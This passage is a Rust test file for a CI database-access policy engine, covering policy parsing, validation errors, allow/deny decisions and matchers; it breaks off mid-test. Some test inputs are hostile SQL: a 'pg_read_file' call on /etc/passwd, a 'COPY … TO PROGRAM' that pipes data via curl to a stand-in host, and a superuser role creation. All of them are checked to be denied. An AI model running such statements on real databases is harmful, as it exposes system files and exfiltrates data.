//! Policy file validation and decision tests.

use crate::sql::{self, Dialect};
use crate::*;
use std::collections::BTreeMap;
use std::net::IpAddr;
use std::time::Duration;

const EXAMPLE: &str = include_str!("../examples/policy.toml");

fn parse(text: &str) -> Policy {
    match Policy::parse(text, "policy.toml") {
        Ok(p) => p,
        Err(e) => panic!("unexpected error: {e}\n--- text ---\n{text}"),
    }
}

fn err(text: &str) -> String {
    match Policy::parse(text, "policy.toml") {
        Ok(_) => panic!("expected an error for:\n{text}"),
        Err(e) => e.to_string(),
    }
}

fn workload() -> Workload {
    Workload {
        cgroup: "/system.slice/actions.runner.acme.runner1.service/job-1".into(),
        unit: Some("actions.runner.acme.runner1.service".into()),
        exe: Some("/usr/bin/psql".into()),
        comm: Some("psql".into()),
        uid: Some(1001),
        pid: Some(4242),
        identity: None,
    }
}

fn identity(claims: &[(&str, &str)]) -> Identity {
    Identity {
        issuer: "https://token.actions.githubusercontent.com".into(),
        subject: "repo:acme/app:ref:refs/heads/main".into(),
        claims: claims
            .iter()
            .map(|(k, v)| (k.to_string(), v.to_string()))
            .collect::<BTreeMap<_, _>>(),
    }
}

fn enrolled(claims: &[(&str, &str)]) -> Workload {
    Workload {
        identity: Some(identity(claims)),
        ..workload()
    }
}

fn target(protocol: Protocol) -> Target {
    Target {
        protocol,
        addr: "10.1.2.3".parse().unwrap(),
        port: match protocol {
            Protocol::Postgres => 5432,
            Protocol::Mysql => 3306,
            Protocol::Ssh => 22,
            Protocol::Http => 80,
            Protocol::Tcp => 6379,
        },
        host: Some("db.internal.example.com".into()),
        database: Some("app".into()),
        user: Some("ci".into()),
    }
}

fn pg() -> Target {
    target(Protocol::Postgres)
}

fn stmt(sql_text: &str) -> SqlStatement {
    let mut v = sql::classify(sql_text, Dialect::Postgres).unwrap();
    assert_eq!(v.len(), 1, "{sql_text}");
    v.remove(0)
}

/// Decides one SQL statement for `w` on `t`.
fn decide_sql(p: &Policy, w: &Workload, t: &Target, sql_text: &str) -> Decision {
    let s = stmt(sql_text);
    p.decide(w, t, &Operation::Sql(&s))
}

// ---------------------------------------------------------------- parsing

#[test]
fn example_policy_parses() {
    let p = parse(EXAMPLE);
    let d = p.defaults();
    assert_eq!(d.decision, Verdict::Allow);
    assert_eq!(d.unparsed, Verdict::Review);
    assert_eq!(d.approval_timeout, Duration::from_secs(300));
    assert_eq!(d.egress, Egress::Deny);
    assert!(!d.require_identity);
    assert_eq!(p.intercepts().len(), 4);
    assert_eq!(
        p.intercepts()[1],
        InterceptRule {
            port: 3306,
            net: Some("10.0.0.0/8".parse().unwrap()),
            protocol: Protocol::Mysql
        }
    );
    assert_eq!(p.intercepts()[0].net, None);
    assert_eq!(p.egress_allow().len(), 2);
    assert_eq!(
        p.egress_allow()[1],
        EgressAllow {
            port: Some(443),
            net: None
        }
    );
    let names: Vec<&str> = p.rules().iter().map(|r| r.name()).collect();
    assert_eq!(names[0], "release-bot");
    assert!(p.rules()[0].is_final());
    assert!(p.rules()[1].require_identity());
    assert_eq!(
        p.rules()[2].summary(),
        "protocol=[postgres,mysql] sql.statement=[drop,truncate]"
    );
    assert_eq!(
        p.rules()[9].summary(),
        "sql.statement=alter sql.object=table sql.action=[drop_column,rename]"
    );
    assert_eq!(p.masker().rules().len(), 2);
    assert_eq!(p.masker().rules()[0].name(), Some("pii"));
    assert_eq!(p.masker().rules()[0].detectors().len(), 8);
    assert!(p.masker().rules()[1].is_conditional());
    let limits: Vec<(&str, Option<u64>, Option<u64>, bool)> = p
        .limits()
        .iter()
        .map(|l| (l.name(), l.rows(), l.bytes(), l.is_conditional()))
        .collect();
    assert_eq!(
        limits,
        [
            ("bulk-export", Some(100_000), Some(104_857_600), true),
            ("contractors-export", Some(1000), None, true)
        ]
    );
    assert_eq!(p.limits()[1].line(), 122);
}

#[test]
fn readme_contains_the_example_verbatim() {
    let readme = include_str!("../README.md");
    let block = format!("```toml\n{EXAMPLE}```");
    assert!(
        readme.contains(&block),
        "README.md must contain examples/policy.toml verbatim in a ```toml block"
    );
    // Every statement kind and detector is documented.
    for k in StatementKind::ALL {
        assert!(
            readme.contains(&format!("`{k}`")),
            "README lacks statement kind {k}"
        );
    }
    for d in Detector::ALL {
        assert!(
            readme.contains(&format!("| `{d}` |")),
            "README lacks detector {d}"
        );
    }
    for o in ObjectKind::ALL {
        assert!(
            readme.contains(&format!("| `{o}` |")),
            "README lacks object kind {o}"
        );
    }
    for a in Action::ALL {
        assert!(
            readme.contains(&format!("| `{a}` |")),
            "README lacks action {a}"
        );
    }
}

#[test]
fn example_policy_decides() {
    let p = parse(EXAMPLE);
    let w = enrolled(&[("repository", "acme/app"), ("actor", "dev")]);
    let t = pg();
    let d = decide_sql(&p, &w, &t, "DROP TABLE users");
    assert_eq!(d.verdict, Verdict::Deny);
    assert_eq!(d.rule.as_deref(), Some("no-destructive-ddl"));
    assert_eq!(
        d.message.as_deref(),
        Some("DROP and TRUNCATE are not allowed from CI; ask a DBA.")
    );
    assert_eq!(
        d.reason,
        "rule \"no-destructive-ddl\" matched (protocol=postgres, sql.statement=drop)"
    );
    let d = decide_sql(&p, &w, &t, "DELETE FROM orders");
    assert_eq!(
        (d.verdict, d.rule.as_deref()),
        (Verdict::Review, Some("unbounded-writes-need-approval"))
    );
    let d = decide_sql(&p, &w, &t, "DELETE FROM orders WHERE id = 1");
    assert_eq!((d.verdict, d.rule), (Verdict::Allow, None));
    let d = decide_sql(&p, &w, &t, "SELECT pg_catalog.pg_read_file('/etc/passwd')");
    assert_eq!(d.rule.as_deref(), Some("no-server-file-access"));
    assert_eq!(d.verdict, Verdict::Deny);
    let d = decide_sql(&p, &w, &t, "SELECT * FROM app_secrets");
    assert_eq!(d.rule.as_deref(), Some("secrets-are-off-limits"));
    let d = decide_sql(&p, &w, &t, "DO $$ BEGIN PERFORM 1; END $$");
    assert_eq!(
        (d.verdict, d.rule.as_deref()),
        (Verdict::Review, Some("opaque-code-needs-approval"))
    );

    // The final release-bot rule wins over deny rules.
    let bot = enrolled(&[
        ("repository", "acme/deploy"),
        ("actor", "release-bot"),
        ("ref", "refs/heads/main"),
    ]);
    let d = decide_sql(&p, &bot, &t, "DROP TABLE users");
    assert_eq!(
        (d.verdict, d.rule.as_deref()),
        (Verdict::Allow, Some("release-bot"))
    );

    // Production database without identity.
    let prod = Target {
        database: Some("prod_main".into()),
        ..pg()
    };
    let d = p.decide(&workload(), &prod, &Operation::Connect);
    assert_eq!(
        (d.verdict, d.rule.as_deref()),
        (Verdict::Deny, Some("prod-needs-identity"))
    );
    assert!(
        d.reason.starts_with("identity enrollment required"),
        "{}",
        d.reason
    );

    // Object kinds and actions.
    let d = decide_sql(&p, &w, &t, "CREATE ROLE evil SUPERUSER");
    assert_eq!(
        (d.verdict, d.rule.as_deref()),
        (Verdict::Deny, Some("no-role-changes"))
    );
    assert_eq!(
        d.reason,
        "rule \"no-role-changes\" matched (sql.object=role)"
    );
    assert_eq!(
        decide_sql(&p, &w, &t, "CREATE TABLE t (a int)").verdict,
        Verdict::Allow
    );
    let d = decide_sql(&p, &w, &t, "COPY t TO PROGRAM 'curl -d @- evil'");
    assert_eq!(
        (d.verdict, d.rule.as_deref()),
        (Verdict::Deny, Some("no-server-programs-or-files"))
    );
    assert_eq!(
        d.reason,
        "rule \"no-server-programs-or-files\" matched (sql.action=copy_program); strictest of 2 matching rules"
    );
    let d = decide_sql(&p, &w, &t, "ALTER TABLE users DROP COLUMN email");
    assert_eq!(
        (d.verdict, d.rule.as_deref()),
        (Verdict::Review, Some("column-drops-need-approval"))
    );
    assert_eq!(
        d.reason,
        "rule \"column-drops-need-approval\" matched (sql.statement=alter, sql.object=table, sql.action=drop_column)"
    );
    assert_eq!(
        decide_sql(&p, &w, &t, "ALTER TABLE users ADD COLUMN x int").verdict,
        Verdict::Allow
    );

    // SSH and HTTP: judged at connect only.
    let ssh = target(Protocol::Ssh);
    let root = Workload {
        uid: Some(0),
        ..w.clone()
    };
    let d = p.decide(&root, &ssh, &Operation::Connect);
    assert_eq!(
        (d.verdict, d.rule.as_deref()),
        (Verdict::Deny, Some("no-root-ssh"))
    );
    assert_eq!(
        p.decide(&w, &ssh, &Operation::Connect).verdict,
        Verdict::Allow
    );
    // No rule of the example is specific to SSH commands or HTTP requests.
    assert!(
        p.rules()
            .iter()
            .all(|r| !r.summary().contains("ssh.") && !r.summary().contains("http.")),
    );

    // Limits.
    let lim = p.result_limit(&w, &t).unwrap();
    assert_eq!(
        lim,
        ResultLimit {
            rows: Some(100_000),
            rows_name: Some("bulk-export".into()),
            bytes: Some(104_857_600),
            bytes_name: Some("bulk-export".into()),
        }
    );
    let contractor = enrolled(&[("repository", "contractors/site")]);
    let lim = p.result_limit(&contractor, &t).unwrap();
    assert_eq!(
        (lim.rows, lim.rows_name.as_deref(), lim.bytes),
        (Some(1000), Some("contractors-export"), Some(104_857_600))
    );
    assert_eq!(p.result_limit(&w, &ssh), None);
}

#[test]
fn empty_file_is_the_builtin_default() {
    let p = parse("");
    assert_eq!(p.defaults(), &Defaults::default());
    assert!(p.rules().is_empty() && p.intercepts().is_empty() && p.masker().is_empty());
    let d = Policy::default();
    assert_eq!(d.defaults(), &Defaults::default());
    let dec = d.decide(&workload(), &pg(), &Operation::Connect);
    assert_eq!(dec.verdict, Verdict::Allow);
    assert_eq!(dec.rule, None);
    assert_eq!(dec.reason, "no rule matched; defaults.decision = allow");
}

#[test]
fn policy_is_send_sync_and_cheap_to_clone() {
    fn assert_send_sync<T: Send + Sync + Clone>() {}
    assert_send_sync::<Policy>();
    assert_send_sync::<mask::ActiveMasks>();
    let p = parse(EXAMPLE);
    let q = p.clone();
    assert!(std::ptr::eq(p.rules().as_ptr(), q.rules().as_ptr()));
}

#[test]
fn durations() {
    let cases = [
        ("500ms", Duration::from_millis(500)),
        ("30s", Duration::from_secs(30)),
        ("5m", Duration::from_secs(300)),
        ("1h", Duration::from_secs(3600)),
    ];
    for (s, want) in cases {
        let p = parse(&format!("[defaults]\napproval_timeout = \"{s}\"\n"));
        assert_eq!(p.defaults().approval_timeout, want, "{s}");
    }
}

/// Every validation error, with its exact location.
#[test]
fn validation_errors_are_located() {
    let cases: &[(&str, &str)] = &[
        // Unknown top-level table.
        (
            "[defaults]\ndecision = \"allow\"\n\n[[rules]]\nname = \"x\"\n",
            "policy.toml:4:3: unknown field `rules`, expected one of `defaults`, `intercept`, `egress_allow`, `rule`, `mask`, `limit`",
        ),
        // Unknown key in [defaults].
        (
            "[defaults]\ndecison = \"deny\"\n",
            "policy.toml:2:1: unknown field `decison`, expected one of `decision`, `unparsed`, `approval_timeout`, `egress`, `require_identity`",
        ),
        // Bad enum value.
        (
            "[defaults]\ndecision = \"block\"\n",
            "policy.toml:2:12: unknown variant `block`, expected one of `allow`, `deny`, `review`",
        ),
        (
            "[defaults]\negress = \"review\"\n",
            "policy.toml:2:10: unknown variant `review`, expected `allow` or `deny`",
        ),
        // Wrong type.
        (
            "[defaults]\nrequire_identity = \"yes\"\n",
            "policy.toml:2:20: invalid type: string \"yes\", expected a boolean",
        ),
        (
            "[defaults]\napproval_timeout = 300\n",
            "policy.toml:2:20: invalid type: integer `300`, expected a string",
        ),
        // Bad durations.
        (
            "[defaults]\napproval_timeout = \"5 minutes\"\n",
            "policy.toml:2:20: invalid duration \"5 minutes\" (expected a whole number with a unit: \"500ms\", \"30s\", \"5m\", \"1h\")",
        ),
        (
            "[defaults]\napproval_timeout = \"0s\"\n",
            "policy.toml:2:20: duration \"0s\" must be greater than zero",
        ),
        // Intercepts.
        (
            "[[intercept]]\nport = 0\nprotocol = \"postgres\"\n",
            "policy.toml:2:8: port must be between 1 and 65535, got 0",
        ),
        (
            "[[intercept]]\nport = 70000\nprotocol = \"postgres\"\n",
            "policy.toml:2:8: port must be between 1 and 65535, got 70000",
        ),
        (
            "[[intercept]]\nport = 5432\nprotocol = \"postgresql\"\n",
            "policy.toml:3:12: unknown protocol \"postgresql\" (expected one of: tcp, postgres, mysql, ssh, http)",
        ),
        (
            "[[intercept]]\nport = 5432\n",
            "policy.toml:1:1: missing field `protocol`",
        ),
        (
            "[[intercept]]\nport = 5432\ncidr = \"10.0.0.0/33\"\nprotocol = \"postgres\"\n",
            "policy.toml:3:8: invalid CIDR \"10.0.0.0/33\" (expected an IPv4/IPv6 address or address/prefix, e.g. \"10.0.0.0/8\")",
        ),
        (
            "[[intercept]]\nport = 5432\nprotocol = \"postgres\"\n\n[[intercept]]\nport = 5432\nprotocol = \"tcp\"\n",
            "policy.toml:5:1: duplicate [[intercept]] for port 5432 (any address) (first at line 1)",
        ),
        (
            "[[intercept]]\nport = 5432\nprotocol = \"postgres\"\nmode = \"x\"\n",
            "policy.toml:4:1: unknown field `mode`, expected one of `port`, `cidr`, `protocol`",
        ),
        // Egress allow.
        (
            "[defaults]\negress = \"deny\"\n\n[[egress_allow]]\n\n[[egress_allow]]\nport = 53\n",
            "policy.toml:4:1: an [[egress_allow]] entry needs `port`, `cidr` or both",
        ),
        (
            "[[egress_allow]]\nport = 53\ncidr = \"not-an-ip\"\n",
            "policy.toml:3:8: invalid CIDR \"not-an-ip\" (expected an IPv4/IPv6 address or address/prefix, e.g. \"10.0.0.0/8\")",
        ),
        // Rules: structure.
        (
            "[[rule]]\ndecision = \"deny\"\n",
            "policy.toml:1:1: missing field `name`",
        ),
        (
            "[[rule]]\nname = \"a\"\n",
            "policy.toml:1:1: missing field `decision`",
        ),
        (
            "[[rule]]\nname = \"a\"\ndecision = \"deny\"\nfinal = \"yes\"\n",
            "policy.toml:4:9: invalid type: string \"yes\", expected a boolean",
        ),
        (
            "[[rule]]\nname = \"a\"\ndecision = \"deny\"\n\n[[rule]]\nname = \"b\"\ndecision = \"allow\"\n\n[[rule]]\nname = \"a\"\ndecision = \"review\"\n",
            "policy.toml:10:8: duplicate rule name \"a\" (first defined at line 2)",
        ),
        (
            "[[rule]]\nname = \"\"\ndecision = \"deny\"\n",
            "policy.toml:2:8: rule name must not be empty",
        ),
        // Match keys.
        (
            "[[rule]]\nname = \"a\"\ndecision = \"deny\"\nmatch = { protocol = \"postgres\", sql.statment = [\"drop\"] }\n",
            "policy.toml:4:38: unknown field `statment`, expected one of `statement`, `object`, `action`, `tables`, `functions`, `columns`, `has_where`",
        ),
        (
            "[[rule]]\nname = \"a\"\ndecision = \"deny\"\nmatch = { user = \"x\" }\n",
            "policy.toml:4:11: unknown field `user`, expected one of `protocol`, `cgroup`, `unit`, `exe`, `comm`, `uid`, `identity`, `target`, `sql`, `ssh`, `http`",
        ),
        (
            "[[rule]]\nname = \"a\"\ndecision = \"deny\"\nmatch = { protocol = \"pg\" }\n",
            "policy.toml:4:22: unknown protocol \"pg\" (expected one of: tcp, postgres, mysql, ssh, http)",
        ),
        (
            "[[rule]]\nname = \"a\"\ndecision = \"deny\"\nmatch = { protocol = [\"postgres\", \"sql\"] }\n",
            "policy.toml:4:35: unknown protocol \"sql\" (expected one of: tcp, postgres, mysql, ssh, http)",
        ),
        (
            "[[rule]]\nname = \"a\"\ndecision = \"deny\"\nmatch = { protocol = 5 }\n",
            "policy.toml:4:22: invalid type: integer `5`, expected a string or a list of strings",
        ),
        (
            "[[rule]]\nname = \"a\"\ndecision = \"deny\"\nmatch = { protocol = [\"ssh\", 5] }\n",
            "policy.toml:4:30: invalid type: integer `5`, expected a string",
        ),
        (
            "[[rule]]\nname = \"a\"\ndecision = \"deny\"\nmatch = { uid = \"root\" }\n",
            "policy.toml:4:17: invalid type: string \"root\", expected an integer or a list of integers",
        ),
        (
            "[[rule]]\nname = \"a\"\ndecision = \"deny\"\nmatch = { uid = [0, -1] }\n",
            "policy.toml:4:21: uid must be between 0 and 4294967295, got -1",
        ),
        (
            "[[rule]]\nname = \"a\"\ndecision = \"deny\"\nmatch = { sql.statement = [] }\n",
            "policy.toml:4:27: empty list (give at least one value, or remove the key)",
        ),
        // The example from the brief: line 12, column 24.
        (
            "# policy\n\n[defaults]\ndecision = \"allow\"\n\n[[rule]]\nname = \"no-destructive-ddl\"\ndecision = \"deny\"\n\n[rule.match]\nprotocol = \"postgres\"\nsql.statement = [\"drop\", \"dorp\"]\n",
            "policy.toml:12:26: unknown statement kind \"dorp\" (expected one of: select, insert, update, delete, merge, create, alter, drop, truncate, grant, revoke, copy, set, show, begin, commit, rollback, savepoint, release, prepare, execute, deallocate, explain, describe, analyze, vacuum, call, do, listen, notify, unlisten, lock, unlock, use, comment, discard, reset, declare, fetch, close, refresh, kill, flush, other)",
        ),
        (
            "[[rule]]\nname = \"a\"\ndecision = \"deny\"\nmatch = { sql.has_where = \"no\" }\n",
            "policy.toml:4:27: invalid type: string \"no\", expected a boolean",
        ),
        (
            "[[rule]]\nname = \"a\"\ndecision = \"deny\"\nmatch = { sql.tables = [\"users\", \"[abc\"] }\n",
            "policy.toml:4:34: invalid glob \"[abc\": unclosed character class (missing `]`)",
        ),
        (
            "[[rule]]\nname = \"a\"\ndecision = \"deny\"\nmatch = { cgroup = \"/system.slice/\\\\\" }\n",
            "policy.toml:4:20: invalid glob \"/system.slice/\\\\\": dangling escape (`\\` at the end of the pattern)",
        ),
        (
            "[[rule]]\nname = \"a\"\ndecision = \"deny\"\nmatch = { target.cidr = [\"10.0.0.0/8\", \"300.1.1.1\"] }\n",
            "policy.toml:4:40: invalid CIDR \"300.1.1.1\" (expected an IPv4/IPv6 address or address/prefix, e.g. \"10.0.0.0/8\")",
        ),
        (
            "[[rule]]\nname = \"a\"\ndecision = \"deny\"\nmatch = { target.port = [5432, 0] }\n",
            "policy.toml:4:32: port must be between 1 and 65535, got 0",
        ),
        (
            "[[rule]]\nname = \"a\"\ndecision = \"deny\"\nmatch = { target.hostname = \"x\" }\n",
            "policy.toml:4:18: unknown field `hostname`, expected one of `cidr`, `port`, `host`, `database`, `user`",
        ),
        // ssh.* and http.* keys: no module judges them yet.
        (
            "[[rule]]\nname = \"a\"\ndecision = \"deny\"\nmatch = { protocol = \"ssh\", ssh.command = \"sudo *\" }\n",
            "policy.toml:4:29: ssh.* rules are not supported yet: SSH connections are relayed as opaque TCP and judged only at connect; remove the key or use a connection rule",
        ),
        (
            "[[rule]]\nname = \"a\"\ndecision = \"review\"\n\n[rule.match]\nhttp.method = \"POST\"\n",
            "policy.toml:6:1: http.* rules are not supported yet: HTTP connections are relayed as opaque TCP and judged only at connect; remove the key or use a connection rule",
        ),
        (
            "[[rule]]\nname = \"a\"\ndecision = \"deny\"\nmatch = { sql.statement = \"drop\", ssh.command = \"rm *\" }\n",
            "policy.toml:4:35: ssh.* rules are not supported yet: SSH connections are relayed as opaque TCP and judged only at connect; remove the key or use a connection rule",
        ),
        // sql.object and sql.action.
        (
            "[[rule]]\nname = \"a\"\ndecision = \"deny\"\nmatch = { sql.object = [\"role\", \"rol\"] }\n",
            "policy.toml:4:33: unknown object kind \"rol\" (expected one of: table, view, materialized_view, index, sequence, role, database, schema, function, procedure, aggregate, trigger, rule, extension, type, domain, policy, server, foreign_table, foreign_data_wrapper, user_mapping, collation, operator, text_search, column, other)",
        ),
        (
            "[[rule]]\nname = \"a\"\ndecision = \"deny\"\nmatch = { sql.object = \"publication\" }\n",
            "policy.toml:4:24: object kind \"publication\" can never match: sqlparser does not parse CREATE/ALTER/DROP PUBLICATION yet, so such statements are judged as unparsed SQL (defaults.unparsed); remove it",
        ),
        (
            "[[rule]]\nname = \"a\"\ndecision = \"deny\"\nmatch = { sql.action = \"copy_to_program\" }\n",
            "policy.toml:4:24: unknown action \"copy_to_program\" (expected one of: copy_program, copy_file, copy_to_client, copy_from_client, add_column, drop_column, alter_column, rename, change_owner, disable_trigger, disable_row_security, set_role, reset_role, set_session_authorization, reset_session_authorization, set_parameter, alter_system, set_password, load_library, security_definer, grant_role, revoke_role)",
        ),
        (
            "[[rule]]\nname = \"a\"\ndecision = \"deny\"\nmatch = { sql.action = [\"copy_file\", \"select_into_outfile\"] }\n",
            "policy.toml:4:38: action \"select_into_outfile\" can never match: sqlparser does not parse MySQL SELECT … INTO OUTFILE|DUMPFILE yet, so such statements are judged as unparsed SQL (defaults.unparsed); remove it",
        ),
        (
            "[[rule]]\nname = \"a\"\ndecision = \"deny\"\nmatch = { sql.action = [] }\n",
            "policy.toml:4:24: empty list (give at least one value, or remove the key)",
        ),
        (
            "[[rule]]\nname = \"a\"\ndecision = \"deny\"\nmatch = { protocol = [\"tcp\", \"ssh\"], sql.object = \"role\" }\n",
            "policy.toml:4:38: sql.* can never match: protocol is limited to tcp, ssh (sql.* applies to postgres and mysql)",
        ),
        (
            "[[rule]]\nname = \"a\"\ndecision = \"deny\"\nmatch = { sql.objects = \"role\" }\n",
            "policy.toml:4:15: unknown field `objects`, expected one of `statement`, `object`, `action`, `tables`, `functions`, `columns`, `has_where`",
        ),
        (
            "[[rule]]\nname = \"a\"\ndecision = \"deny\"\nmatch = { protocol = \"ssh\", sql.statement = \"drop\" }\n",
            "policy.toml:4:29: sql.* can never match: protocol is limited to ssh (sql.* applies to postgres and mysql)",
        ),
        (
            "[[rule]]\nname = \"a\"\ndecision = \"deny\"\nmatch = { identity = {} }\n",
            "policy.toml:4:22: empty identity matcher",
        ),
        (
            "[[rule]]\nname = \"a\"\ndecision = \"deny\"\nmatch = { identity.repository = 5 }\n",
            "policy.toml:4:33: invalid type: integer `5`, expected a string or a list of strings",
        ),
        // Masks.
        (
            "[[mask]]\ndetectors = [\"credit_card\", \"ssn\"]\n",
            "policy.toml:2:29: unknown detector \"ssn\" (expected one of: credit_card, email, us_ssn, iban, phone, aws_access_key, private_key, jwt)",
        ),
        (
            "[[mask]]\nname = \"x\"\n",
            "policy.toml:1:1: a [[mask]] entry needs `detectors`, `columns` or both",
        ),
        (
            "[[mask]]\ncolumns = [\"pass[\"]\n",
            "policy.toml:2:12: invalid glob \"pass[\": unclosed character class (missing `]`)",
        ),
        (
            "[[mask]]\ncolumns = [\"password\"]\nmatch = { sql.tables = \"users\" }\n",
            "policy.toml:3:11: sql.* cannot be used in a [[mask]] match (masks apply to whole connections; allowed keys: protocol, cgroup, unit, exe, comm, uid, identity.*, target.*)",
        ),
        (
            "[[mask]]\ncolumns = [\"password\"]\ndetector = [\"email\"]\n",
            "policy.toml:3:1: unknown field `detector`, expected one of `name`, `detectors`, `columns`, `match`",
        ),
        // Limits.
        (
            "[[limit]]\nrows = 10\n",
            "policy.toml:1:1: missing field `name`",
        ),
        (
            "[[limit]]\nname = \" \"\nrows = 10\n",
            "policy.toml:2:8: limit name must not be empty",
        ),
        (
            "[[limit]]\nname = \"a\"\nrows = 10\n\n[[limit]]\nname = \"a\"\nbytes = 10\n",
            "policy.toml:6:8: duplicate limit name \"a\" (first defined at line 2)",
        ),
        (
            "[[limit]]\nname = \"a\"\nmatch = { protocol = \"mysql\" }\n",
            "policy.toml:1:1: a [[limit]] entry needs `rows`, `bytes` or both",
        ),
        (
            "[[limit]]\nname = \"a\"\nrows = 0\n",
            "policy.toml:3:8: rows must be a positive integer, got 0",
        ),
        (
            "[[limit]]\nname = \"a\"\nrows = 5\nbytes = -1\n",
            "policy.toml:4:9: bytes must be a positive integer, got -1",
        ),
        (
            "[[limit]]\nname = \"a\"\nrows = \"10k\"\n",
            "policy.toml:3:8: invalid type: string \"10k\", expected i64",
        ),
        (
            "[[limit]]\nname = \"a\"\nrows = 10\nmatch = { sql.tables = \"users\" }\n",
            "policy.toml:4:11: sql.* cannot be used in a [[limit]] match (limits apply to whole connections; allowed keys: protocol, cgroup, unit, exe, comm, uid, identity.*, target.*)",
        ),
        (
            "[[limit]]\nname = \"a\"\nrows = 10\nmatch = { ssh.command = \"x\" }\n",
            "policy.toml:4:11: ssh.* cannot be used in a [[limit]] match (limits apply to whole connections; allowed keys: protocol, cgroup, unit, exe, comm, uid, identity.*, target.*)",
        ),
        (
            "[[limit]]\nname = \"a\"\nrows = 10\nrow = 5\n",
            "policy.toml:4:1: unknown field `row`, expected one of `name`, `rows`, `bytes`, `match`",
        ),
        // TOML syntax.
        (
            "[defaults]\ndecision = \"allow\n",
            "policy.toml:2:18: invalid basic string, expected `\"`",
        ),
    ];
    let mut failures = Vec::new();
    for (text, want) in cases {
        let got = err(text);
        if got != *want {
            failures.push(format!("text:\n{text}\n  want: {want}\n  got:  {got}\n"));
        }
    }
    assert!(
        failures.is_empty(),
        "{} failures:\n{}",
        failures.len(),
        failures.join("\n")
    );
}

/// Validation of ssh.*/http.* values, for when their modules judge them.
#[test]
fn unjudged_family_values_are_validated() {
    let cases: &[(&str, &str)] = &[
        (
            "match = { ssh.command_regex = \"^git (push\" }",
            "policy.toml:4:31: invalid regex \"^git (push\": unclosed group",
        ),
        (
            "match = { http.method = [\"GET\", \"PO ST\"] }",
            "policy.toml:4:33: invalid HTTP method \"PO ST\"",
        ),
        (
            "match = { sql.statement = \"drop\", ssh.command = \"rm *\" }",
            "policy.toml:4:35: a rule can use only one of sql.*, ssh.* and http.* (it already uses sql.*; they match different operations)",
        ),
        (
            "match = { protocol = \"postgres\", http.path = \"/x\" }",
            "policy.toml:4:34: http.* can never match: protocol is limited to postgres (http.* applies to http)",
        ),
    ];
    for (m, want) in cases {
        let text = format!("[[rule]]\nname = \"a\"\ndecision = \"deny\"\n{m}\n");
        let got = Policy::parse_judging(&text, "policy.toml", ALL_FAMILIES)
            .map(|_| ())
            .unwrap_err()
            .to_string();
        assert_eq!(got, *want, "{m}");
        // With the shipped families, the key itself is refused.
        let got = err(&text);
        assert!(got.contains("rules are not supported yet"), "{got}");
    }
    assert!(crate::JUDGED_FAMILIES.contains(&"sql"));
    assert!(!crate::JUDGED_FAMILIES.contains(&"ssh"));
    assert!(!crate::JUDGED_FAMILIES.contains(&"http"));
}

// ---------------------------------------------------------------- matchers

/// A policy with one deny rule whose match table is `m`.
fn one_rule(m: &str) -> Policy {
    parse(&format!(
        "[[rule]]\nname = \"r\"\ndecision = \"deny\"\nmatch = {{ {m} }}\n"
    ))
}

/// Every operation family, as the SSH and HTTP modules will judge them.
const ALL_FAMILIES: &[&str] = &["sql", "ssh", "http"];

/// [`one_rule`] with ssh.*/http.* keys accepted (their matchers are kept
/// for the modules that will use them).
fn one_rule_all_families(m: &str) -> Policy {
    let text = format!("[[rule]]\nname = \"r\"\ndecision = \"deny\"\nmatch = {{ {m} }}\n");
    match Policy::parse_judging(&text, "policy.toml", ALL_FAMILIES) {
        Ok(p) => p,
        Err(e) => panic!("unexpected error: {e}\n--- text ---\n{text}"),
    }
}

fn denies(p: &Policy, w: &Workload, t: &Target, op: &Operation<'_>) -> bool {
    p.decide(w, t, op).verdict == Verdict::Deny
}

#[test]
fn workload_and_target_matchers() {
    let w = workload();
    let t = pg();
    let connect = Operation::Connect;
    let ipv6 = Target {
        addr: "fd00::5".parse().unwrap(),
        ..pg()
    };
    let mapped = Target {
        addr: "::ffff:10.1.2.3".parse().unwrap(),
        ..pg()
    };
    let no_host = Target {
        host: None,
        database: None,
        user: None,
        ..pg()
    };
    let anon = Workload {
        unit: None,
        exe: None,
        comm: None,
        uid: None,
        ..workload()
    };
    // (match table, workload, target, expected deny)
    let cases: Vec<(&str, &Workload, &Target, bool)> = vec![
        ("protocol = \"postgres\"", &w, &t, true),
        ("protocol = [\"mysql\", \"postgres\"]", &w, &t, true),
        ("protocol = \"mysql\"", &w, &t, false),
        ("cgroup = \"/system.slice/actions.runner.*\"", &w, &t, true),
        ("cgroup = \"/user.slice/*\"", &w, &t, false),
        ("cgroup = [\"/user.slice/*\", \"*/job-?\"]", &w, &t, true),
        ("unit = \"actions.runner.*.service\"", &w, &t, true),
        ("unit = \"gitlab-runner.service\"", &w, &t, false),
        ("unit = \"*\"", &anon, &t, false),
        ("exe = \"/usr/bin/psql\"", &w, &t, true),
        ("exe = \"/usr/bin/PSQL\"", &w, &t, false),
        ("exe = \"/usr/*/p[sq]ql\"", &w, &t, true),
        ("comm = \"ps?l\"", &w, &t, true),
        ("comm = \"*\"", &anon, &t, false),
        ("uid = 1001", &w, &t, true),
        ("uid = [0, 1001]", &w, &t, true),
        ("uid = 0", &w, &t, false),
        ("uid = 1001", &anon, &t, false),
        ("target.cidr = \"10.0.0.0/8\"", &w, &t, true),
        ("target.cidr = \"10.1.2.3\"", &w, &t, true),
        ("target.cidr = \"192.168.0.0/16\"", &w, &t, false),
        (
            "target.cidr = [\"192.168.0.0/16\", \"10.1.0.0/16\"]",
            &w,
            &t,
            true,
        ),
        ("target.cidr = \"10.0.0.0/8\"", &w, &mapped, true),
        ("target.cidr = \"fd00::/8\"", &w, &ipv6, true),
        ("target.cidr = \"10.0.0.0/8\"", &w, &ipv6, false),
        ("target.port = 5432", &w, &t, true),
        ("target.port = [3306, 5433]", &w, &t, false),
        ("target.host = \"*.internal.example.com\"", &w, &t, true),
        ("target.host = \"*.INTERNAL.example.com\"", &w, &t, true),
        ("target.host = \"*.prod.example.com\"", &w, &t, false),
        ("target.host = \"*\"", &w, &no_host, false),
        ("target.database = \"app\"", &w, &t, true),
        ("target.database = \"prod*\"", &w, &t, false),
        ("target.database = \"*\"", &w, &no_host, false),
        ("target.user = \"ci\"", &w, &t, true),
        ("target.user = \"postgres\"", &w, &t, false),
        // AND across keys.
        (
            "protocol = \"postgres\", uid = 1001, target.port = 5432",
            &w,
            &t,
            true,
        ),
        ("protocol = \"postgres\", uid = 0", &w, &t, false),
    ];
    for (m, w, t, want) in cases {
        let p = one_rule(m);
        assert_eq!(denies(&p, w, t, &connect), want, "match {{ {m} }}");
    }
}

#[test]
fn identity_matchers() {
    let t = pg();
    let w = enrolled(&[
        ("repository", "acme/app"),
        ("ref", "refs/heads/main"),
        ("sha", "0123abcd"),
        ("run_id", "99"),
        ("actor", "octocat"),
        ("workflow", "CI"),
        (
